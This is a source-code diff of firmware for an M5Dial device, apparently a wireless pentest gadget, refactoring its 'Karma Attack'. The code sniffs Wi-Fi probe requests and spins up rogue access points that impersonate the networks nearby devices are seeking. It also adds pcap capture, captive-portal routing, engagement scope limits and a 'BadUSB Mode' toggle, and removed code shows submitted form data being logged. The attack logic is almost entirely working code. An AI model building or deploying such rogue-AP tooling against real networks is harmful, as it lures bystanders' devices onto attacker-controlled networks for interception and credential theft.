-    }, []() {
-        static File uploadFile;
-        HTTPUpload& upload = server.upload();
-        
-        if (upload.status == UPLOAD_FILE_START) {
-            String filename = upload.filename;
-            if (!filename.startsWith("/")) {
-                filename = "/" + filename;
-            }
-            
-            // Create directories if needed
-            int lastSlash = filename.lastIndexOf('/');
-            if (lastSlash > 0) {
-                String dirPath = filename.substring(0, lastSlash);
-                if (!SPIFFS.exists(dirPath)) {
-                    SPIFFS.mkdir(dirPath);
-                    if (debugMode && verboseDebug) {
-                        Serial.println("Created directory: " + dirPath);
-                    }
-                }
-            }
-            
-            uploadFile = SPIFFS.open(filename, "w");
-            if (!uploadFile) {
-                if (debugMode && verboseDebug) {
-                    Serial.println("Failed to create file: " + filename);
-                }
-                return;
-            }
-        } else if (upload.status == UPLOAD_FILE_WRITE) {
-            if (uploadFile) {
-                uploadFile.write(upload.buf, upload.currentSize);
-            }
-        } else if (upload.status == UPLOAD_FILE_END) {
-            if (uploadFile) {
-                uploadFile.close();
-                if (debugMode && verboseDebug) {
-                    Serial.println("File upload complete: " + upload.filename);
-                }
-            }
-        }
-    });
+class RouteTableHandler : public RequestHandler {
+public:
+    bool canHandle(HTTPMethod method, String uri) override {
+        return true;
+    }
 
-    // File list handler
-    server.on("/files", HTTP_GET, []() {
-        File root = SPIFFS.open("/");
-        File file = root.openNextFile();
-        JsonDocument doc;
-        JsonArray files = doc.to<JsonArray>();
-        
-        while (file) {
-            if (!file.isDirectory()) {
-                JsonObject fileInfo = files.add<JsonObject>();
-                String fileName = String(file.name());
-                if (fileName.startsWith("/")) {
-                    fileName = fileName.substring(1);
-                }
-                fileInfo["name"] = fileName;
-                fileInfo["size"] = file.size();
-            }
-            file = root.openNextFile();
+    bool canUpload(String uri) override {
+        int entry = findRouteEntry(server.method(), uri.c_str());
+        return entry >= 0 && entry < routeCount && routes[entry].upload;
+    }
+
+    bool handle(WebServer& webServer, HTTPMethod method, String uri) override {
+        ScopedTimer requestTimer(httpLatencyMetric);
+        httpRequestsMetric.inc();
+        pathArgs.clear();
+        dispatch(method, uri);
+        requestArena.reset();
+        return true;
+    }
+
+    void upload(WebServer& webServer, String uri, HTTPUpload& upload) override {
+        int entry = findRouteEntry(webServer.method(), uri.c_str());
+        if (entry >= 0 && entry < routeCount && routes[entry].upload) {
+            routes[entry].upload();
         }
-        
-        String response;
-        serializeJson(doc, response);
-        server.send(200, "application/json", response);
-    });
+        requestArena.reset();
+    }
 
-    // File delete handler
-    server.on("/deleteFile", HTTP_DELETE, []() {
-        // Check if we have a "filename" argument
-        if (!server.hasArg("filename")) {
-            server.send(400, "application/json", R"({"success":false,"error":"No filename argument"})");
+private:
+    void dispatch(HTTPMethod method, const String& uri) {
+        int entry = findRouteEntry(method, uri.c_str());
+        if (entry >= 0 && entry < routeCount) {
+            TRACE_SCOPE(routes[entry].path, TRACE_HTTP);
+            routes[entry].handler();
             return;
         }
-        
-        // Grab the filename argument, e.g. "myFile.txt"
-        String fileArg = server.arg("filename");
-        // Convert it to an absolute path, e.g. "/myFile.txt"
-        String filePath = "/" + fileArg;
-        
-        // Attempt to delete from SPIFFS
-        if (SPIFFS.remove(filePath)) {
-            server.send(200, "application/json", R"({"success":true})");
-            if (debugMode && verboseDebug) {
-                Serial.println("Deleted file: " + filePath);
-            }
-        } else {
-            server.send(404, "application/json", R"({"success":false})");
-            if (debugMode && verboseDebug) {
-                Serial.println("Failed to delete file: " + filePath);
-            }
-        }
-    });
-
-
-    // Command handler
-    server.on("/command/{command}", HTTP_POST, []() {
-        String command = server.pathArg(0);
-        String message = "Command executed: " + command;
-        
-        // Add actual command handling logic here
-        // For now just return success
-        server.send(200, "application/json", "{\"message\":\"" + message + "\"}");
-        
-        if (debugMode && verboseDebug) {
-            Serial.println(message);
+        if (entry >= routeCount) {
+            TRACE_SCOPE(captiveProbes[entry - routeCount].path, TRACE_HTTP);
+            handleCaptiveProbe(captiveProbes[entry - routeCount]);
+            return;
         }
-    });
 
-    server.onNotFound([]() {
-        File file = SPIFFS.open("/index.html", "r");
-        if (!file) {
-            if (debugMode && verboseDebug) {
-                Serial.println("File not found: /index.html on NotFound");
+        for (int i = 0; i < prefixRouteCount; i++) {
+            const Route& route = prefixRoutes[i];
+            size_t prefixLength = strlen(route.path);
+            if (route.method == method && uri.length() > prefixLength &&
+                strncmp(uri.c_str(), route.path, prefixLength) == 0) {
+                pathArgs.push_back(uri.substring(prefixLength));
+                TRACE_SCOPE(route.path, TRACE_HTTP);
+                route.handler();
+                return;
             }
-            server.send(404, "text/plain", "File not found");
-            return;
         }
-        server.streamFile(file, "text/html");
-        file.close();
-    });
-}
 
-void handleFormSubmit() {
-    if (server.hasArg("plain")) {
-        String body = server.arg("plain");
-        logData(body);
-        server.send(200, "application/json", "{\"status\":\"ok\"}");
-    } else {
-        server.send(400, "application/json", "{\"status\":\"fail\"}");
+        TRACE_SCOPE("static", TRACE_HTTP);
+        handleStaticFile();
     }
-}
+};
+RouteTableHandler routeTableHandler;
 
-void logData(String data) {
-    File logFile = SPIFFS.open("/log.txt", FILE_APPEND);
-    if (logFile) {
-        logFile.println(data);
-        logFile.close();
-        if (debugMode && verboseDebug) {
-            Serial.println("Data logged.");
-        }
-    } else {
-        if (debugMode && verboseDebug) {
-            Serial.println("Failed to open log file.");
-        }
-    }
+void setupWebServerRoutes() {
+    // WebServer has no way to remove handlers; register once per boot
+    static bool routesRegistered = false;
+    if (routesRegistered) return;
+    routesRegistered = true;
+
+    buildRouteIndex();
+    server.addHandler(&routeTableHandler);
 }
 
 // SSID Selection
 void drawSSIDMenu(int index) {
-    int count = (int)ssidList.size() + 1; 
-    const char** ssidArray = new const char*[count];
-    for (size_t i = 0; i < ssidList.size(); i++) {
-        ssidArray[i] = ssidList[i].c_str();
+    int count = ssidList.size() + 1;
+    const char** ssidArray = frameArena.allocArray<const char*>(count);
+    if (!ssidArray) return;
+    for (int i = 0; i < ssidList.size(); i++) {
+        ssidArray[i] = ssidList[i];
     }
     ssidArray[count - 1] = "Back";
 
     drawListMenu(ssidArray, count, index, PURPLE, WHITE, PURPLE);
-    delete[] ssidArray;
 }
 
 void selectSSID() {
     if (!debugMode) return; // Only in debug mode
 
-    currentScreen = PORTAL_SCREEN;
-    delay(200);
-
     if (ssidList.empty()) {
         returnToMainMenu();
         return;
     }
+    switchScreen(SSID_SELECT_SCREEN);
+}
 
-    int ssidIndex = 0;
-    long ssidOldPosition = -999;
-    unsigned long pressStartTime = 0;
-    bool isBtnAPressed = false;
+void enterSSIDSelectScreen() {
+    ssidIndex = 0;
+    ssidOldPosition = -999;
+}
 
-    int count = (int)ssidList.size() + 1; 
-    while (true) {
-        M5Dial.update();
-        long newPosition = M5Dial.Encoder.read();
+void drawSSIDSelectScreen() {
+    drawSSIDMenu(ssidIndex);
+}
 
-        if (abs(newPosition - ssidOldPosition) >= encoderMoveThreshold) {
-            M5Dial.Speaker.tone(8000, 20);
-            ssidOldPosition = newPosition;
-            ssidIndex = (newPosition / encoderMoveThreshold + count) % count;
-            drawSSIDMenu(ssidIndex);
-        }
+void handleSSIDSelectScreen(long newPosition) {
+    static unsigned long pressStartTime = 0;
+    static bool isBtnAPressed = false;
 
-        if (M5Dial.BtnA.wasPressed()) {
-            isBtnAPressed = true;
-            pressStartTime = millis();
-        }
+    int count = ssidList.size() + 1;
+    if (abs(newPosition - ssidOldPosition) >= encoderMoveThreshold) {
+        M5Dial.Speaker.tone(8000, 20);
+        ssidOldPosition = newPosition;
+        ssidIndex = (newPosition / encoderMoveThreshold + count) % count;
+        if (ssidIndex < 0) ssidIndex += count;
+        requestRender();
+    }
 
-        if (isBtnAPressed && M5Dial.BtnA.wasReleased()) {
-            unsigned long pressDuration = millis() - pressStartTime;
-            isBtnAPressed = false;
-            if (pressDuration < 1000) {
-                if (ssidIndex == count - 1) {
-                    returnToMainMenu();
-                    break;
-                } else {
-                    String selectedSSID = cleanSSID(ssidList[ssidIndex]);
-                    ssid = selectedSSID;
-                    WiFi.softAP(ssid.c_str(), password);
-                    saveSelectedSSID(ssid);
-                    if (debugMode && verboseDebug) {
-                        Serial.println("Rebooting to apply SSID change...");
-                    }
-                    delay(500);
-                    esp_restart();
-                }
-            }
-        }
+    if (M5Dial.BtnA.wasPressed()) {
+        isBtnAPressed = true;
+        pressStartTime = millis();
+    }
+
+    if (isBtnAPressed && M5Dial.BtnA.pressedFor(1000)) {
+        isBtnAPressed = false;
+        LOG_D("BtnA held, returning to main menu.");
+        returnToMainMenu();
+        return;
+    }
 
-        if (M5Dial.BtnA.pressedFor(1000)) {
-            if (debugMode && verboseDebug) {
-                Serial.println("BtnA held, returning to main menu.");
+    if (isBtnAPressed && M5Dial.BtnA.wasReleased()) {
+        unsigned long pressDuration = millis() - pressStartTime;
+        isBtnAPressed = false;
+        if (pressDuration < 1000) {
+            if (ssidIndex == count - 1) {
+                returnToMainMenu();
+            } else {
+                String selectedSSID = cleanSSID(ssidList[ssidIndex]);
+                ssid = selectedSSID;
+                WiFi.softAP(ssid.c_str(), password);
+                saveSelectedSSID(ssid);
+                LOG_D("Rebooting to apply SSID change...");
+                commitSettings();
+                delay(500);
+                esp_restart();
             }
-            returnToMainMenu();
-            break;
         }
-
-        delay(10);
     }
 }
 
 // Return to main menu
 void returnToMainMenu() {
-    drawMenu(currentIndex);
-    currentScreen = MENU_SCREEN;
+    switchScreen(MENU_SCREEN);
     lastPressTime = 0;
-    if (debugMode && verboseDebug) {
-        Serial.println("Returning to main menu...");
-    }
+    LOG_D("Returning to main menu...");
 }
 
 // Karma Attack
 void startAutoKarma() {
     if (!debugMode) return; 
     if (isKarmaRunning) {
-        if (debugMode && verboseDebug) {
-            Serial.println("Cannot start Karma attack, it's already running.");
-        }
+        LOG_D("Cannot start Karma attack, it's already running.");
         return;
     }
 
     isAutoKarmaActive = true;
     isKarmaRunning = true;
-    currentScreen = KARMA_SCREEN;
+    karmaProbePending = false;
 
     M5Dial.Display.clear();
     M5Dial.Display.setTextSize(defaultTextSize);
@@ -1182,137 +4050,381 @@ void startAutoKarma() {
     M5Dial.Display.setCursor(startTextX, startTextY);
     M5Dial.Display.println("Starting Karma Attack...");
 
-    if (debugMode && verboseDebug) {
-        Serial.println("Karma Auto Attack Started...");
-    }
+    LOG_D("Karma Auto Attack Started...");
 
+    startPcapRecording();
+    captureEngagementClock();
+    postNetCommand(NET_CMD_START_KARMA);
+    switchScreen(KARMA_SCREEN);
+}
+
+void netStartKarma() {
+    sniffer.requestReset();
     WiFi.disconnect(true);
     WiFi.mode(WIFI_AP_STA);
 
     esp_err_t wifi_start_err = esp_wifi_start();
     if (wifi_start_err != ESP_OK) {
-        if (debugMode) {
-            Serial.printf("Failed to start WiFi! Error code: 0x%x\n", wifi_start_err);
+        LOG_E("Failed to start WiFi! Error code: 0x%x", wifi_start_err);
+        postNetEvent(NET_EVENT_KARMA_FAILED);
+        return;
+    }
+
+    deviceTable.reset();
+    loadWhitelist();
+    loadEngagementProfile();
+
+    // An armed replay stands in for the radio for this run
+    if (replay.armed) {
+        replay.armed = false;
+        hopper.stop();
+        lastProbeChannel = 0;
+        if (!startReplay()) {
+            postNetEvent(NET_EVENT_KARMA_FAILED);
+            return;
         }
-        isAutoKarmaActive = false;
-        isKarmaRunning = false;
+        netStatus.karmaActive = true;
+        publishNetStatus();
         return;
     }
 
     esp_err_t promisc_err = esp_wifi_set_promiscuous(true);
     if (promisc_err != ESP_OK) {
-        if (debugMode) {
-            Serial.printf("Failed to set promiscuous mode! Error code: 0x%x\n", promisc_err);
-        }
-        isAutoKarmaActive = false;
-        isKarmaRunning = false;
+        LOG_E("Failed to set promiscuous mode! Error code: 0x%x", promisc_err);
+        postNetEvent(NET_EVENT_KARMA_FAILED);
         return;
     }
 
+    // The driver can only filter by frame type; probe request subtypes are
+    // picked out by the callback's first byte check.
+    wifi_promiscuous_filter_t filter = {};
+    filter.filter_mask = WIFI_PROMIS_FILTER_MASK_MGMT;
+    esp_wifi_set_promiscuous_filter(&filter);
     esp_wifi_set_promiscuous_rx_cb(&autoKarmaPacketSniffer);
+    hopper.stop();
+    lastProbeChannel = 0;
+    netStatus.karmaActive = true;
+    publishNetStatus();
 }
 
+// Exit hook of KARMA_SCREEN
 void stopAutoKarma() {
+    if (isAPDeploying) stopKarmaAP();
     isAutoKarmaActive = false;
     isKarmaRunning = false;
-    esp_wifi_set_promiscuous(false);
-    if (debugMode && verboseDebug) {
-        Serial.println("Karma Auto Attack Stopped...");
-    }
+    karmaProbePending = false;
+    postNetCommand(NET_CMD_STOP_KARMA);
+    LOG_D("Karma Auto Attack Stopped...");
     M5Dial.Display.clear();
-    currentScreen = MENU_SCREEN;
-    drawMenu(currentIndex);
+}
+
+void netStopKarma() {
+    esp_wifi_set_promiscuous(false);
+    finishReplay();
+    if (pcapRecording.load()) pcapStopRequested.store(true);
+    if (netStatus.apUp) netStopAP();
+
+    // Anything still queued belongs to the session that just ended
+    ProbeRecord probe;
+    while (probeQueue.pop(probe)) {}
+
+    hopper.finishDwell(millis());
+    hopper.stop();
+    netStatus.channel = 0;
+    netStatus.karmaActive = false;
+    publishNetStatus();
 }
 
 void loopAutoKarma() {
     if (!isAutoKarmaActive) return;
-    while (isAutoKarmaActive) {
-        M5Dial.update();
 
-        if (M5Dial.BtnA.wasPressed()) {
-            stopAutoKarma();
-            return;
+    if (isAPDeploying) {
+        unsigned long elapsed = millis() - karmaAPStartTime;
+        if (M5Dial.BtnA.wasPressed() || elapsed >= karmaAPDuration()) {
+            stopKarmaAP();
+            requestRender();
+        } else if ((int)(elapsed / 1000) != karmaAPLastSecond) {
+            karmaAPLastSecond = elapsed / 1000;
+            requestRender();
         }
+        return;
+    }
 
-        if (newSSIDAvailable) {
-            newSSIDAvailable = false;
-            activateAPForAutoKarma(lastSSID);
-        } else {
-            if (millis() - lastProbeDisplayUpdate > 1000) {
-                displayWaitingForProbe();
-                lastProbeDisplayUpdate = millis();
-            }
-        }
+    if (M5Dial.BtnA.wasPressed()) {
+        switchScreen(MENU_SCREEN);
+        return;
+    }
 
-        delay(100);
+    if (karmaProbePending && millis() - karmaPendingSince >= karmaPickWindow) {
+        karmaProbePending = false;
+        activateAPForAutoKarma(pendingKarmaSSID);
+    } else if (millis() - lastProbeDisplayUpdate > 1000) {
+        lastProbeDisplayUpdate = millis();
+        requestRender();
     }
+}
 
-    memset(lastSSID, 0, sizeof(lastSSID));
-    newSSIDAvailable = false;
+// pcap writer
+// Runs on the Wi-Fi driver task; must not block or touch the filesystem
+void pcapAppend(const wifi_promiscuous_pkt_t* packet, size_t length) {
+    pcapBuffer.append(packet->payload, length, packet->rx_ctrl.channel, (int8_t)packet->rx_ctrl.rssi, micros());
 }
 
-void autoKarmaPacketSniffer(void* buf, wifi_promiscuous_pkt_type_t type) {
-    if (type != WIFI_PKT_MGMT || isAPDeploying) return;
+bool pcapOpenFile() {
+    pcapFile = SPIFFS.open(pcapPath, "a");
+    if (!pcapFile) {
+        pcapBuffer.stats.writeErrors++;
+        return false;
+    }
+    if (pcapFile.size() == 0) pcapFile.write((const uint8_t*)pcapFileHeader, sizeof(pcapFileHeader));
+    return true;
+}
+
+void pcapWriteBuffer(PcapBuffer& buffer) {
+    ScopedTimer flashTimer(flashWriteMetric);
+    if (!pcapFile && !pcapOpenFile()) return;
+    // Checked after opening too: a new recording appends to whatever the
+    // last one left behind
+    if (pcapFile.size() > sizeof(pcapFileHeader) && pcapFile.size() + buffer.used > pcapMaxFileSize) {
+        pcapFile.close();
+        SPIFFS.remove(pcapPreviousPath);
+        SPIFFS.rename(pcapPath, pcapPreviousPath);
+        pcapBuffer.stats.rotations++;
+        if (!pcapOpenFile()) return;
+    }
+    if (pcapFile.write(buffer.data, buffer.used) != buffer.used) pcapBuffer.stats.writeErrors++;
+    else pcapBuffer.stats.bytesWritten += buffer.used;
+}
+
+// Buffers and the file belong to core 1: recording starts from the UI and
+// stops from the pcap service after the net task reports the sniffer off.
+void startPcapRecording() {
+    if (pcapStopRequested.exchange(false)) stopPcapRecording();
+    if (!pcapEnabled) return;
+    pcapBuffer.reset();
+    pcapLastFlush = millis();
+    pcapRecording.store(true, std::memory_order_release);
+}
+
+// Called once the sniffer is off, so the filling buffer is ours to write
+void stopPcapRecording() {
+    if (!pcapRecording.exchange(false)) return;
+    pcapBuffer.drain(pcapWriteBuffer);
+    if (pcapFile) pcapFile.close();
+}
+
+// Writes whichever buffer the callback handed over
+bool pcapFlush() {
+    if (pcapStopRequested.exchange(false)) {
+        stopPcapRecording();
+        return true;
+    }
+    if (!pcapRecording.load(std::memory_order_acquire)) return false;
+    bool didWork = false;
+    if (PcapBuffer* buffer = pcapBuffer.full()) {
+        pcapWriteBuffer(*buffer);
+        pcapBuffer.release(*buffer);
+        didWork = true;
+    }
+    if (millis() - pcapLastFlush >= pcapFlushInterval) {
+        pcapLastFlush = millis();
+        pcapBuffer.requestFlush();
+        if (pcapFile) pcapFile.flush();
+    }
+    return didWork;
+}
 
+void autoKarmaPacketSniffer(void* buf, wifi_promiscuous_pkt_type_t type) {
     const wifi_promiscuous_pkt_t *packet = (wifi_promiscuous_pkt_t*)buf;
-    const uint8_t *frame = packet->payload;
-    const uint8_t frame_type = frame[0];
+    // sig_len counts the trailing FCS, which isn't part of the parsed frame
+    size_t length = packet->rx_ctrl.sig_len;
+    length = length > 4 ? length - 4 : 0;
+
+    ProbeRecord probe;
+    if (!sniffer.accept(type == WIFI_PKT_MGMT && !isAPDeploying, packet->payload, length,
+                        packet->rx_ctrl.channel, packet->rx_ctrl.rssi, probe)) {
+        return;
+    }
+    if (pcapRecording.load(std::memory_order_relaxed)) {
+        pcapAppend(packet, length);
+    }
+    if (probeQueue.push(probe) && netTaskHandle) {
+        xTaskNotifyGive(netTaskHandle);
+    }
+}
+
+// SSID matching
+// Adds one rule line to a matcher; rules longer than an SSID can never match
+void addSSIDRule(SSIDMatcher& matcher, const char* path, const String& rule) {
+    if (matcher.addRule(rule.c_str()) == SSID_RULE_TOO_LONG) {
+        LOG_W("%s: skipping rule over %u characters: %.40s...", path, (unsigned)maxSSIDLength, rule.c_str());
+    }
+}
+
+void loadWhitelist() {
+    whitelist.clear();
+    File file = SPIFFS.open(whitelistPath, "r");
+    if (file) {
+        while (file.available()) addSSIDRule(whitelist, whitelistPath, file.readStringUntil('\n'));
+        file.close();
+    } else {
+        for (const char* name : defaultWhitelist) whitelist.addRule(name);
+    }
+    whitelist.build();
 
-    if (frame_type == 0x40) {
-        uint8_t ssid_length = frame[25];
-        if (ssid_length == 0 || ssid_length > 32) return;
+    LOG_D("Whitelist: %d rules", whitelist.ruleCount);
+}
+
+// Scope enforcement
+// Parses "HH:MM-HH:MM" into minutes since midnight
+bool parseEngagementWindow(const String& text, EngagementWindow& window) {
+    int startHour, startMinute, endHour, endMinute;
+    if (sscanf(text.c_str(), "%d:%d-%d:%d", &startHour, &startMinute, &endHour, &endMinute) != 4) return false;
+    if (startHour < 0 || startHour > 23 || endHour < 0 || endHour > 24 ||
+        startMinute < 0 || startMinute > 59 || endMinute < 0 || endMinute > 59) return false;
+    window.startMinute = startHour * 60 + startMinute;
+    window.endMinute = min(endHour * 60 + endMinute, 24 * 60);
+    return true;
+}
 
-        char tempSSID[33];
-        strncpy(tempSSID, (char*)&frame[26], ssid_length);
-        tempSSID[ssid_length] = '\0';
+void loadEngagementProfile() {
+    engagement.active = false;
+    engagement.scope.clear();
+    engagement.windowCount = 0;
+    engagement.maxDwellMs = 0;
 
-        if (strcmp(tempSSID, lastSSID) == 0) return;
+    File file = SPIFFS.open(engagementPath, "r");
+    if (!file) return;
 
-        strncpy(lastSSID, tempSSID, sizeof(lastSSID) - 1);
-        newSSIDAvailable = true;
-        if (debugMode && verboseDebug) {
-            Serial.printf("New SSID detected: %s\n", lastSSID);
+    // "scope <rule>", "window HH:MM-HH:MM" or "max_dwell <seconds>" per line
+    while (file.available()) {
+        String line = file.readStringUntil('\n');
+        line.trim();
+        if (line.isEmpty() || line.startsWith("#")) continue;
+        int space = line.indexOf(' ');
+        if (space == -1) continue;
+        String directive = line.substring(0, space);
+        String value = line.substring(space + 1);
+        value.trim();
+
+        if (directive == "scope") {
+            addSSIDRule(engagement.scope, engagementPath, value);
+        } else if (directive == "window" && engagement.windowCount < maxEngagementWindows) {
+            if (parseEngagementWindow(value, engagement.windows[engagement.windowCount])) engagement.windowCount++;
+        } else if (directive == "max_dwell") {
+            engagement.maxDwellMs = max(0L, value.toInt()) * 1000;
         }
+    }
+    file.close();
+    engagement.scope.build();
+    engagement.active = true;
 
-        saveSSID(lastSSID);
+    LOG_I("Engagement profile: %d scope rules, %d windows, max dwell %u s", engagement.scope.ruleCount,
+          engagement.windowCount, (unsigned)(engagement.maxDwellMs / 1000));
+}
+
+// UI core: reads the RTC once per Karma run
+void captureEngagementClock() {
+    engagementClockMinute = -1;
+    if (!M5Dial.Rtc.isEnabled()) return;
+    auto now = M5Dial.Rtc.getDateTime();
+    if (now.date.year < 2024) return;   // never set
+    engagementClockMinute = now.time.hours * 60 + now.time.minutes;
+    engagementClockMs = millis() - now.time.seconds * 1000UL;
+}
+
+int currentMinuteOfDay() {
+    if (engagementClockMinute < 0) return -1;
+    return (engagementClockMinute + (millis() - engagementClockMs) / 60000) % (24 * 60);
+}
+
+// Runs in the net task's probe drain for every SSID about to reach the UI
+ScopeVerdict decideScope(const char* ssid) {
+    int minute = currentMinuteOfDay();
+    ScopeVerdict verdict = scopeVerdict(whitelist, engagement, ssid, minute);
+    scopeVerdictCounts[verdict]++;
+
+    if (engagement.active) {
+        ScopeDecision decision = {};
+        decision.timeMs = millis();
+        decision.minuteOfDay = minute;
+        decision.verdict = verdict;
+        strncpy(decision.ssid, ssid, sizeof(decision.ssid) - 1);
+        scopeLogQueue.push(decision);
     }
+    return verdict;
+}
+
+// Storage service: appends queued decisions to the scope log
+bool writeScopeLog() {
+    ScopeDecision decision;
+    if (!scopeLogQueue.pop(decision)) return false;
+    ScopedTimer flashTimer(flashWriteMetric);
+    File file = SPIFFS.open(scopeLogPath, "a");
+    do {
+        if (!file) continue;
+        char clock[6] = "--:--";
+        if (decision.minuteOfDay >= 0) {
+            snprintf(clock, sizeof(clock), "%02d:%02d", decision.minuteOfDay / 60, decision.minuteOfDay % 60);
+        }
+        file.printf("%u %s %s %s\n", (unsigned)decision.timeMs, clock, scopeVerdictNames[decision.verdict], decision.ssid);
+    } while (scopeLogQueue.pop(decision));
+    if (file) file.close();
+    return true;
 }
 
-bool isSSIDWhitelisted(const char* ssid) {
-    for (const auto& wssid : whitelist) {
-        if (wssid == ssid) return true;
+// AP lifetime for this run, capped by the engagement profile
+unsigned long karmaAPDuration() {
+    if (engagement.active && engagement.maxDwellMs > 0) {
+        return min((unsigned long)autoKarmaAPDuration, (unsigned long)engagement.maxDwellMs);
     }
-    return false;
+    return autoKarmaAPDuration;
 }
 
 void activateAPForAutoKarma(const char* ssid) {
-    if (isSSIDWhitelisted(ssid) || strcmp(ssid, lastDeployedSSID) == 0) return;
+    if (strcmp(ssid, lastDeployedSSID) == 0) return;
 
-    isAPDeploying = true;
-    if (!WiFi.softAP(ssid, password)) {
-        if (debugMode && verboseDebug) {
-            Serial.println("Failed to start Karma AP");
-        }
-        isAPDeploying = false;
-        return;
-    }
+    LOG_D("New SSID detected: %s", ssid);
 
+    isAPDeploying = true;
     strncpy(lastDeployedSSID, ssid, sizeof(lastDeployedSSID) - 1);
+    postNetCommand(NET_CMD_DEPLOY_AP, ssid);
 
-    unsigned long startTime = millis();
-    while (millis() - startTime < (unsigned long)autoKarmaAPDuration) {
-        displayAPStatus(ssid, startTime, autoKarmaAPDuration);
-        dnsServer.processNextRequest();
-        server.handleClient();
+    // The AP stays up for karmaAPDuration(); loopAutoKarma() tears it down
+    karmaAPStartTime = millis();
+    karmaAPLastSecond = 0;
+    requestRender();
+}
 
-        M5Dial.update();
-        if (M5Dial.BtnA.wasPressed()) break;
+void stopKarmaAP() {
+    postNetCommand(NET_CMD_STOP_AP);
+    isAPDeploying = false;
+}
 
-        delay(100);
+void netDeployAP(const char* ssid) {
+    // Answer on the channel the probe came in on; the device is listening there
+    hopper.finishDwell(millis());
+    noteReplayDeploy(ssid);
+    uint8_t channel = lastProbeChannel ? lastProbeChannel : 1;
+    if (!WiFi.softAP(ssid, password, channel)) {
+        LOG_D("Failed to start Karma AP");
+        postNetEvent(NET_EVENT_AP_FAILED);
+        return;
     }
+    apDeploysMetric.inc();
+    resetStations();
+    netStatus.apUp = true;
+    strncpy(netStatus.currentSSID, ssid, sizeof(netStatus.currentSSID) - 1);
+    publishNetStatus();
+}
 
+void netStopAP() {
     WiFi.softAPdisconnect(true);
-    isAPDeploying = false;
+    netStatus.apUp = false;
+    netStatus.clientCount = 0;
+    for (int i = 0; i < maxStations; i++) stations[i].connected = false;
+    memset(netStatus.currentSSID, 0, sizeof(netStatus.currentSSID));
+    publishNetStatus();
 }
 
 void displayWaitingForProbe() {
@@ -1325,6 +4437,15 @@ void displayWaitingForProbe() {
     M5Dial.Display.setCursor(waitingTextX, waitingTextY);
     M5Dial.Display.print("Waiting for probe");
 
+    uint8_t channel = readNetStatus().channel;
+    if (channel) {
+        char channelText[8];
+        snprintf(channelText, sizeof(channelText), "Ch %u", (unsigned)channel);
+        M5Dial.Display.fillRect(0, waitingTextY + 25, M5Dial.Display.width(), M5Dial.Display.fontHeight(), TFT_BLACK);
+        M5Dial.Display.setCursor((M5Dial.Display.width() - M5Dial.Display.textWidth(channelText)) / 2, waitingTextY + 25);
+        M5Dial.Display.print(channelText);
+    }
+
     unsigned long currentTime = millis();
     if (currentTime - lastProbeDisplayUpdate > 1000) {
         lastProbeDisplayUpdate = currentTime;
@@ -1351,9 +4472,14 @@ void displayWaitingForProbe() {
     M5Dial.Display.println("Stop Auto");
 }
 
-void displayAPStatus(const char* ssid, unsigned long startTime, int autoKarmaAPDuration) {
+void displayAPStatus(unsigned long startTime, int autoKarmaAPDuration) {
     M5Dial.Display.clear();
 
+    // The networking task may not have brought the AP up yet; fall back to
+    // the SSID we asked it to deploy.
+    NetStatus status = readNetStatus();
+    const char* ssid = status.apUp ? status.currentSSID : pendingKarmaSSID;
+
     unsigned long currentTime = millis();
     int remainingTime = autoKarmaAPDuration / 1000 - ((currentTime - startTime) / 1000);
 
@@ -1393,21 +4519,24 @@ void powerOffDevice() {
     M5Dial.Display.setCursor(x, y);
     M5Dial.Display.println(powerOffText);
 
-    if (debugMode && verboseDebug) {
-        Serial.println("Powering off device...");
-    }
+    LOG_D("Powering off device...");
 
+    commitSettings();
     delay(2000);
     esp_deep_sleep_start();
 }
 
 void drawSettingsMenu(int index) {
     String toggleModeText = debugMode ? "Toggle BadUSB Mode" : "Toggle Normal Mode";
-    const char* settingsItemsDynamic[5] = {
+    const char* settingsItemsDynamic[9] = {
         "Power Off",
         "Screen Brightness",
         toggleModeText.c_str(),
         verboseDebug ? "Verbose Debug: On" : "Verbose Debug: Off",
+        showSplash ? "Boot Logo: On" : "Boot Logo: Off",
+        pcapEnabled ? "Probe pcap: On" : "Probe pcap: Off",
+        logToFile ? "Log to File: On" : "Log to File: Off",
+        "Diagnostics",
         "Back"
     };
     drawListMenu(settingsItemsDynamic, settingsItemsCount, index, PURPLE, WHITE, PURPLE);
@@ -1418,18 +4547,12 @@ void adjustBrightness(long newPosition, long &brightnessOldPosition) {
     if (abs(brightnessChange) >= encoderMoveThreshold) {
         brightnessOldPosition = newPosition; 
         screenBrightness = constrain(screenBrightness + brightnessChange, 0, 255); 
-        M5Dial.Display.setBrightness(screenBrightness); 
-        if (preferences.begin("settings", false)) {
-            preferences.putInt("brightness", screenBrightness);
-            preferences.end();
-        }
+        M5Dial.Display.setBrightness(screenBrightness);
 
-        if (debugMode && verboseDebug) {
-            Serial.printf("Adjusted brightness to: %d\n", screenBrightness);
-        }
+        LOG_D("Adjusted brightness to: %d", screenBrightness.get());
 
         M5Dial.Display.fillRect(0, M5Dial.Display.height()-60, M5Dial.Display.width(), 60, TFT_BLACK);
-        String brightText = "Brightness: " + String(screenBrightness);
+        String brightText = "Brightness: " + String(screenBrightness.get());
         int16_t x = (M5Dial.Display.width() - M5Dial.Display.textWidth(brightText)) / 2;
         int16_t y = M5Dial.Display.height() - 50; 
         M5Dial.Display.setCursor(x, y);
@@ -1439,31 +4562,18 @@ void adjustBrightness(long newPosition, long &brightnessOldPosition) {
 }
 
 void handleSettingsScreen(long newPosition) {
-    static int settingsIndex = 0;
-    static long settingsOldPosition = -999;
-    static bool adjustingBrightness = false;
-
-    String toggleModeText = debugMode ? "Toggle BadUSB Mode" : "Toggle Normal Mode";
-    const char* settingsItemsDynamic[5] = {
-        "Power Off",
-        "Screen Brightness",
-        toggleModeText.c_str(),
-        verboseDebug ? "Verbose Debug: On" : "Verbose Debug: Off",
-        "Back"
-    };
-
     long movement = newPosition - settingsOldPosition;
 
     if (!adjustingBrightness && abs(movement) >= encoderMoveThreshold) {
         M5Dial.Speaker.tone(8000, 20);
 
         if (movement > 0) {
-            settingsIndex = (settingsIndex + 1) % 5; 
+            settingsIndex = (settingsIndex + 1) % settingsItemsCount;
         } else if (movement < 0) {
-            settingsIndex = (settingsIndex - 1 + 5) % 5;
+            settingsIndex = (settingsIndex - 1 + settingsItemsCount) % settingsItemsCount;
         }
         settingsOldPosition = newPosition;
-        drawListMenu(settingsItemsDynamic, 5, settingsIndex, PURPLE, WHITE, PURPLE);
+        requestRender();
     }
 
     static unsigned long pressStartTime = 0;
@@ -1484,7 +4594,7 @@ void handleSettingsScreen(long newPosition) {
                 adjustingBrightness = !adjustingBrightness;
                 settingsOldPosition = newPosition;
                 if (!adjustingBrightness) {
